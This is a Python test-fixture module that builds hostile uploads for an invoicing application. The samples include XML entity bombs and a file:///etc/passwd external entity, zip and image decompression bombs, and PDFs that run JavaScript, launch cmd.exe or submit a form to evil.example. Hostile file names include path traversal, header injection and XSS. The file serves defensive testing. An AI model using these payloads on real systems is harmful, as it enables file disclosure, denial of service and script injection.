"""Files made to harm who receives them, or who reads them: each named by what it tries."""

import io
import struct
import zipfile
import zlib

from openpyxl import Workbook
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.factories.files import make_pdf, make_picture
from tests.payments.bank.files import camt, entry

ENTITIES = b'<!DOCTYPE x [<!ENTITY a "AAAAAAAAAA">%s<!ENTITY file SYSTEM "file:///etc/passwd">]>' % b"".join(
    b'<!ENTITY %c "&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;">' % ((98 + rank,) + (97 + rank,) * 10) for rank in range(9)
)
XML = b'<?xml version="1.0"?>'
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXECUTABLE = b"MZ\x90\x00" + bytes(200)
# What a PDF does, not what it shows.
ACTIVE = (b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/EmbeddedFile", b"/AA", b"/SubmitForm")


def zipped(**files: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return target.getvalue()


def bomb(name: str) -> bytes:
    """Return an archive of fifty kilobytes that unpacks to fifty megabytes."""
    return zipped(**{name: bytes(50_000_000)})


def workbook(*, sheet: bytes | None = None, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """Return a workbook of two columns, one of its parts replaced."""
    book = Workbook()
    page = book.worksheets[0]
    page.append(["N° facture", "Montant TTC"])
    page.append(["F-1", "10"])
    made = io.BytesIO()
    book.save(made)
    target = io.BytesIO()
    with zipfile.ZipFile(made) as given, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in given.namelist():
            archive.writestr(name, sheet if sheet is not None and name == part else given.read(name))
    return target.getvalue()


def _act(**facts: str) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): _value(value) for name, value in facts.items()})


def _value(value: str) -> NameObject | TextStringObject:
    return NameObject(value) if value.startswith("/") else TextStringObject(value)


def _runs_scripts(writer: PdfWriter) -> None:
    named = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("a"), _act(S="/JavaScript", JS="a()")])}
    )
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): named})
    writer.root_object[NameObject("/OpenAction")] = _act(S="/JavaScript", JS="app.alert(1)")
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _act(S="/JavaScript", JS="app.alert(2)")})
    for action in (_act(S="/JavaScript", JS="app.alert(3)"), _act(S="/SubmitForm", F="https://evil.example/")):
        mark = Link(rect=(0, 0, 9, 9), url="https://x.example/")
        mark[NameObject("/A")] = action
        writer.add_annotation(0, mark)


def _launches(writer: PdfWriter) -> None:
    mark = Link(rect=(0, 0, 9, 9), url="https://x.example/")
    mark[NameObject("/A")] = _act(S="/Launch", F="cmd.exe")
    mark[NameObject("/AA")] = DictionaryObject({NameObject("/E"): _act(S="/Launch", F="cmd.exe")})
    writer.add_annotation(0, mark)


def _holds_a_file(writer: PdfWriter) -> None:
    writer.add_attachment("facture.exe", EXECUTABLE)
    attached = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject(),
            NameObject("/FS"): _act(Type="/EmbeddedFile"),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(attached)])


def huge_png(side: int = 30_000) -> bytes:
    """Return a picture of a few bytes that fills nine hundred million points."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def huge_jpeg() -> bytes:
    """Return a picture whose head says sixty-five thousand points a side."""
    small = bytearray(make_picture("JPEG"))
    frame = small.index(b"\xff\xc0")
    small[frame + 5 : frame + 9] = b"\xff\xff\xff\xff"
    return bytes(small)


HOSTILE: dict[str, tuple[str, bytes]] = {
    "a picture named as a PDF": ("facture.pdf", make_picture("PNG")),
    "a page named as a picture": ("photo.png", HTML),
    "a drawing that runs": ("photo.png", SVG),
    "a program named as a PDF": ("facture.pdf", EXECUTABLE),
    "nothing": ("vide.pdf", b""),
    "null characters": ("nul.csv", b"numero;montant\n\x00;\x00\n"),
    "an archive that swells": ("modeles.zip", bomb("texte.toml")),
    "a workbook that swells": ("factures.xlsx", workbook(sheet=bytes(50_000_000))),
    "a workbook with entities": (
        "factures.xlsx",
        workbook(sheet=XML + ENTITIES + b"<worksheet><sheetData><row><c><v>&i;</v></c></row></sheetData></worksheet>"),
    ),
    "a workbook that reads a file": (
        "factures.xlsx",
        workbook(sheet=XML + ENTITIES + b"<sst>&file;</sst>", part="xl/workbook.xml"),
    ),
    "a statement with entities": (
        "releve.xml",
        camt(entry("77.00", "&i;&file;")).replace(b"?>", b"?>" + ENTITIES, 1),
    ),
    "a PDF that runs scripts": ("facture.pdf", make_pdf(change=_runs_scripts)),
    "a PDF that launches a program": ("facture.pdf", make_pdf(change=_launches)),
    "a PDF that holds a file": ("facture.pdf", make_pdf(change=_holds_a_file)),
    "a PDF behind a password": ("facture.pdf", make_pdf(change=lambda writer: writer.encrypt("secret"))),
    "a PDF cut short": ("facture.pdf", make_pdf(b"x" * 2_000)[:400]),
    "a picture that swells": ("photo.png", huge_png()),
    "a photograph that swells": ("photo.jpg", huge_jpeg()),
    "a PDF that is an archive too": ("facture.pdf", make_pdf() + zipped(**{"a.toml": b"x"})),
    "a photograph that is a page too": ("photo.jpg", make_picture("JPEG") + HTML),
}  # fmt: skip
NAMES = {
    "a path": "../../../etc/passwd",
    "a path of Windows": "C:\\Windows\\system32\\x",
    "three hundred characters": "x" * 300,
    "line breaks": "a\r\nSet-Cookie: a=b\r\n\r\n<script>",
    "marks nobody sees": "facture\u202efdp\u200b\x07",
    "a quote": 'x"; filename="y.exe',
    "a page": "<img src=x onerror=alert(1)>",
}
